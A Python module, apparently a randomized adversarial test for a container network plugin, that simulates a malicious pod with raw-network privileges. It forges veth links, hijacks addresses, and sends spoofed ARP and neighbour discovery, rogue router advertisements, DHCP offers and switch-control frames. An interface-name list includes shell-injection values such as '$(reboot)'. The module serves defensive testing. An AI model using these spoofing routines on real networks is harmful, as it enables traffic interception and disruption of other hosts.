"""What a pod with NET_ADMIN and NET_RAW does in network namespaces of its own. Every choice is chance's, by the generator that is handed in.

Tricks may fail, as most orders of most attackers do; what counts is what the plugin makes of what is left.
"""

import fcntl
import ipaddress
import socket
import struct

from namespace_look import in_namespace

SIOCGIFHWADDR = 0x8927

# What a name may be, for the kernel: of escapes, of directions, of what others are called.
ODD_NAMES = ("eth0", "eth1", "x0", "net1", "veth1a2b3c", "docker0", "hb0", "up0", "renamed0", "bwp000000000000", "eth\u00e9", "\u009b2J", "a\u202eb",
             "$(reboot)", "-rf", "lo0", "...", "eth0;x", "'\"")


class Target:
    """A link of the host that is not the pod's, and what a pod may have found out about it."""

    def __init__(self, host_end, host_index, name="eth0", index=2, mac="02:00:00:00:00:01", addresses=(), key="x/y/z", host_mac=None):
        self.host_end, self.host_index, self.name, self.index, self.mac = host_end, host_index, name, index, mac
        self.addresses, self.key, self.host_mac = list(addresses), key, host_mac or mac


class Pod:
    """A container whose network is the attacker's. `guarded`: what it sends is checked, so that it may send anything. `near`: addresses of
    others on its network."""

    def __init__(self, node, namespace, inner, guarded, near):
        self.node, self.namespace, self.inner, self.guarded, self.near = node, namespace, inner, guarded, near

    def ip(self, *arguments, inside=None):
        self.node.run_in(inside or self.namespace, "ip", *map(str, arguments), check=False)

    def trick(self, chance, targets):
        """Plays one, and says which."""
        tricks = STRUCTURE + (PRETENCE if self.guarded else ()) + FRAMES
        play = chance.choice(tricks)
        target, other = chance.choice(targets), chance.choice(targets)
        return f"{play.__name__}({target.host_end}) " + str(play(self, chance, target, other) or "")


# -- links

def rename(pod, chance, _target, _other):
    old, new = chance.choice(ODD_NAMES[:4]), chance.choice(ODD_NAMES)
    pod.ip("link", "set", "dev", old, "down")
    pod.ip("link", "set", "dev", old, "name", new)
    pod.ip("link", "set", "dev", new, "up")
    return f"{old} to {new!r}"


def rename_back(pod, chance, _target, _other):
    old = chance.choice(ODD_NAMES)
    pod.ip("link", "set", "dev", old, "down")
    pod.ip("link", "set", "dev", old, "name", "eth0")
    pod.ip("link", "set", "dev", "eth0", "up")
    return f"{old!r} to eth0"


def move_away(pod, chance, _target, _other):
    pod.ip("link", "set", "dev", chance.choice(("eth0", "x0", "eth1")), "netns", pod.inner)


def move_back(pod, chance, _target, _other):
    name = chance.choice(("eth0", "x0", "eth1"))
    pod.ip("link", "set", "dev", name, "netns", pod.namespace, inside=pod.inner)
    pod.ip("link", "set", "dev", name, "up")


def remove(pod, chance, _target, _other):
    pod.ip("link", "del", "dev", chance.choice(("eth0", "x0", "eth1", "eth0")))


def forge(pod, chance, target, other):
    """A link that looks like another container's end: its index, MAC and name, and a peer with the index of that one's host end."""
    def mostly(right, wrong):
        return right if chance.random() < 0.85 else wrong

    pod.ip("link", *chance.choice((("del", "dev", "eth0"), ("del", "dev", "eth0"), ("set", "dev", "eth0", "netns", pod.inner))))
    pod.ip("link", "del", "dev", "x0")
    pod.ip("link", "del", "dev", "x0", inside=pod.inner)
    index, mac, peer = mostly(target.index, other.index), mostly(target.mac, other.host_mac), mostly(target.host_index, other.host_index)
    elsewhere = ["netns", pod.inner] if chance.random() < 0.5 else []
    pod.ip("link", "add", "name", mostly(target.name, "eth0"), "index", index, "address", mac, "type", "veth",
           "peer", "name", "x0", "index", peer, *elsewhere)
    return f"index {index} address {mac} peer index {peer} {' '.join(elsewhere)[:5]}"


def forge_host_end(pod, chance, target, _other):
    """The other way round: what the host has, with its name, index and alias, inside."""
    pod.ip("link", "add", "name", target.host_end, "index", target.host_index, "address", target.host_mac, "type", "veth",
           "peer", "name", chance.choice(("eth0", "x0")), "index", target.index)
    pod.ip("link", "set", "dev", target.host_end, "alias", f"patchcord {target.key}")


def forge_other_kind(pod, chance, target, _other):
    kind = chance.choice(("bridge", "ifb", "vxlan id 7 dstport 4789", "macvlan", "macvtap"))
    if chance.random() < 0.5:
        pod.ip("link", "del", "dev", "eth0")
    below = ["link", chance.choice(("x0", "eth1", "lo"))] if kind.startswith("macv") else []
    mac = "02:00:00:00:0b:0e" if below and not pod.guarded else target.mac
    index = target.host_index if chance.random() < 0.5 else target.index
    pod.ip("link", "add", *below, "name", "eth0", "index", index, "address", mac, "type", *kind.split())
    return kind


def enslave(pod, chance, _target, _other):
    pod.ip("link", "add", "name", "inside0", "address", "02:00:00:00:0b:0d", "type", "bridge")
    pod.ip("link", "set", "dev", "eth0", *chance.choice((("master", "inside0"), ("nomaster",))))


def label(pod, chance, target, _other):
    alias = chance.choice((f"patchcord {target.key}", "patchcord gateway hb0.7", "patchcord //", "\u009b31mred", f"patchcord {target.key} "))
    pod.ip("link", "set", "dev", chance.choice(("eth0", "x0")), "alias", alias)


def name_too(pod, chance, target, _other):
    pod.ip("link", "property", "add", "dev", chance.choice(("eth0", "lo", "x0")), "altname", chance.choice((target.host_end, "eth0", "\u009b2J")))


def group(pod, chance, _target, _other):
    pod.ip("link", "set", "dev", "eth0", "group", chance.choice((0, 1 << 30, (1 << 30) + 77)))


def turn(pod, chance, _target, _other):
    pod.ip("link", "set", "dev", chance.choice(("eth0", "x0", "lo")), chance.choice(("up", "down", "up")))


def resize(pod, chance, _target, _other):
    pod.ip("link", "set", "dev", "eth0", "mtu", chance.choice((68, 1280, 1400, 65535)), "txqueuelen", chance.choice((0, 1, 9999)))


def own_routes(pod, chance, target, _other):
    prefix = chance.choice(("default", "0.0.0.0/1", "169.254.1.1/32", "fe80::/10", "default", *target.addresses))
    pod.ip("route", chance.choice(("replace", "del", "append")), prefix, "dev", chance.choice(("eth0", "lo", "x0")))


def flush(pod, chance, _target, _other):
    pod.ip(*chance.choice((("addr", "flush", "dev", "eth0"), ("route", "flush", "dev", "eth0"), ("neigh", "flush", "all", "nud", "permanent"))))


def shape(pod, chance, _target, _other):
    orders = (("qdisc", "replace", "dev", "eth0", "root", "tbf", "rate", "1mbit", "burst", "9k", "latency", "9ms"),
              ("qdisc", "add", "dev", "eth0", "ingress"), ("qdisc", "del", "dev", "eth0", "root"), ("qdisc", "add", "dev", "eth0", "clsact"))
    pod.node.run_in(pod.namespace, "tc", *chance.choice(orders), check=False)


def own_rules(pod, chance, target, _other):
    """A table of our name, in which everything is the victim's."""
    table = f'table inet patchcord {{ set accepted4 {{ type ipv4_addr; elements = {{ 10.61.0.2 comment "{target.key}" }}; }} }}'
    text = chance.choice(("flush ruleset", table))
    pod.node.run_in(pod.namespace, "nft", "-f", "-", stdin=text, check=False)


def settings(pod, chance, _target, _other):
    key = chance.choice(("ipv4.ip_forward=1", "ipv6.conf.all.forwarding=1", "ipv6.conf.all.disable_ipv6=1", "ipv6.conf.all.disable_ipv6=0",
                         "ipv6.conf.default.accept_ra=2", "ipv4.conf.all.rp_filter=0", "ipv4.conf.all.route_localnet=1"))
    pod.node.run_in(pod.namespace, "sysctl", "-qw", "net." + key, check=False)


# -- what only they may do whose frames are checked: without `antispoof`, a neighbour on a bridge is believed

def take_address(pod, chance, target, _other):
    address = chance.choice(target.addresses or ["192.0.2.1"])
    length = chance.choice((32, 24)) if ":" not in address else chance.choice((128, 64))
    pod.ip("addr", "add", f"{address}/{length}", "dev", chance.choice(("eth0", "lo", "eth0")), *(["nodad"] if ":" in address else []))
    return address


def take_mac(pod, chance, target, _other):
    pod.ip("link", "set", "dev", "eth0", "address", chance.choice((target.mac, target.host_mac, "02:00:00:00:0b:00", "02:00:00:00:00:02")))


def answer_for_all(pod, chance, _target, _other):
    family = chance.choice(("ipv4.conf.all.proxy_arp=1", "ipv6.conf.all.proxy_ndp=1"))
    pod.node.run_in(pod.namespace, "sysctl", "-qw", "net." + family, "net.ipv4.ip_forward=1", check=False)
    pod.ip("neigh", "add", "proxy", "fd00:61::1", "dev", "eth0")


STRUCTURE = (*[forge] * 8, forge_host_end, forge_host_end, forge_other_kind, rename, rename_back, move_away, move_back, remove, enslave, label,
             name_too, group, turn, resize, own_routes, flush, shape, own_rules, settings)


# -- frames

def send(pod, frames_of):
    """Through every Ethernet link of the pod's; `frames_of` makes them, told the link's own MAC."""
    def work():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
            for _, name in socket.if_nameindex():
                try:
                    own = fcntl.ioctl(raw, SIOCGIFHWADDR, struct.pack("256s", name.encode()))[18:24].hex(":")
                    for frame in frames_of(own):
                        raw.sendto(frame, (name, 0))
                except OSError:
                    pass
    in_namespace(pod.node.way_into(pod.namespace), work)


def octets(mac):
    return bytes.fromhex(mac.replace(":", ""))


def dressed(ethertype, payload):
    """Plain, and in the tags and headers that a kernel takes off before it believes what is inside."""
    plain = struct.pack("!H", ethertype) + payload
    snap = bytes.fromhex("aaaa03000000") + plain
    priority = b"\x81\x00\x00\x00"
    session = b"\x88\x64\x11\0\0\x01" + struct.pack("!H", len(payload) + 2) + (b"\0\x57" if ethertype == 0x86dd else b"\0\x21")
    long = struct.pack("!H", len(snap)) + snap
    return [plain, priority + plain, b"\x88\xa8\0\0" + plain, b"\x88\xa8\0\0" + priority + plain, priority + priority + plain, long, priority + long,
            session + payload]


def claim_ip4(address, mac, _source, operation):
    sender = socket.inet_aton(address)
    return dressed(0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + octets(mac) + sender + bytes(6) + sender)


def checksum(source, destination, body):
    total = source + destination + struct.pack("!II", len(body), 58) + body + b"\0" * (len(body) % 2)
    value = sum(struct.unpack(f"!{len(total) // 2}H", total))
    while value >> 16:
        value = (value & 0xffff) + (value >> 16)
    return ~value & 0xffff


def icmp6(body, source="fe80::bad", destination="ff02::1"):
    source, destination = (ipaddress.IPv6Address(each).packed for each in (source, destination))
    body = body[:2] + struct.pack("!H", checksum(source, destination, body)) + body[4:]
    return dressed(0x86dd, struct.pack("!IHBB", 0x60000000, len(body), 58, 255) + source + destination + body)


def claim_ip6(address, mac, source, _operation):
    return icmp6(b"\x88\0\0\0\x20\0\0\0" + ipaddress.IPv6Address(address).packed + b"\x02\x01" + octets(mac), source=source)


def link_local(mac):
    first, *others = octets(mac)
    return ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + bytes([first ^ 2, *others[:2], 0xff, 0xfe, *others[2:]])).compressed


def claim(pod, chance, target, other):
    """ARP and neighbour discovery in the name of everybody near, as oneself or as another."""
    kind, operation = chance.choice((claim_ip4, claim_ip6)), chance.choice((1, 2))
    addresses = [each for each in (*pod.near, *target.addresses) if (":" in each) == (kind is claim_ip6)]
    at, sender, source = chance.choice(("own", "own", target.mac)), chance.choice(("own", "own", target.mac)), chance.choice("laub")

    def frames_of(own):
        for address in addresses:
            from_where = {"l": link_local(own), "a": address, "u": "::", "b": "fe80::bad"}[source]
            for each in kind(address, own if at == "own" else at, from_where, operation):
                for to in ("ff:ff:ff:ff:ff:ff", other.mac, other.host_mac, "33:33:00:00:00:01"):
                    yield octets(to) + octets(own if sender == "own" else sender) + each
    send(pod, frames_of)
    return f"{kind.__name__}: {addresses} are at {at}, from {sender} {source}"


def advertise_router(pod, chance, _target, _other):
    """The node and the others must not take the pod for a router."""
    prefix = b"\x03\x04\x40\xc0" + struct.pack("!III", 600, 600, 0) + ipaddress.IPv6Address("2001:db8:bad::").packed
    body = b"\x86\0\0\0\x40\0" + struct.pack("!HII", chance.choice((600, 0)), 0, 0) + prefix + b"\x05\x01\0\0" + struct.pack("!I", 1280)
    send(pod, lambda own: [octets("33:33:00:00:00:01") + octets(own) + each for each in icmp6(body, source=link_local(own))])


def redirect(pod, _chance, target, _other):
    destination = ipaddress.IPv6Address("2001:db8::7").packed
    body = b"\x89\0\0\0\0\0\0\0" + ipaddress.IPv6Address("fe80::bad").packed + destination
    send(pod, lambda own: [octets(target.host_mac) + octets(own) + each for each in icmp6(body, source="fe80::1")])


def serve_addresses(pod, chance, target, _other):
    """A DHCP offer and an acknowledgement, to everybody."""
    offer = b"\x02\x01\x06\0" + bytes(12)
    offer += socket.inet_aton("10.61.0.99") + socket.inet_aton("10.61.0.66") + bytes(4) + octets(target.mac) + bytes(202)
    offer += b"\x63\x82\x53\x63\x35\x01" + chance.choice((b"\x02", b"\x05")) + b"\x03\x04\x0a\x3d\0\x42\xff"
    udp = struct.pack("!HHHH", 67, 68, len(offer) + 8, 0) + offer
    header = struct.pack("!BBHHHBBH", 0x45, 0, len(udp) + 20, 0, 0, 64, 17, 0) + socket.inet_aton("10.61.0.66") + b"\xff" * 4
    send(pod, lambda own: [b"\xff" * 6 + octets(own) + each for each in dressed(0x0800, header + udp)])


def control_switch(pod, chance, target, _other):
    """Frames for the switch itself, which learns from them who is where: spanning tree, LLDP, 802.1X, pause."""
    source = octets(target.mac if pod.guarded and chance.random() < 0.5 else "02:00:00:00:0b:ad")
    bridge = b"\0\0" + octets("02:00:00:00:00:01")
    bpdu = b"\x42\x42\x03\0\0\0\0\0" + bridge + bytes(4) + bridge + b"\x80\x01\0\0\x14\0\x02\0\x0f\0"
    kinds = (b"\x01\x80\xc2\0\0\0" + source + struct.pack("!H", len(bpdu)) + bpdu,
             b"\x01\x80\xc2\0\0\x0e" + source + b"\x88\xcc\x02\x07\x04" + bytes(6) + b"\x04\x02\x07\x31\x06\x02\0\x78\0\0",
             b"\x01\x80\xc2\0\0\x03" + source + b"\x88\x8e\x01\x01\0\0" + bytes(42),
             b"\x01\x80\xc2\0\0\x01" + source + b"\x88\x08\0\x01\xff\xff" + bytes(42))
    frame = chance.choice(kinds)
    send(pod, lambda _own: [frame])


PRETENCE = (take_address, take_address, take_mac, answer_for_all, claim, claim, claim, claim)
FRAMES = (advertise_router, redirect, serve_addresses, control_switch)
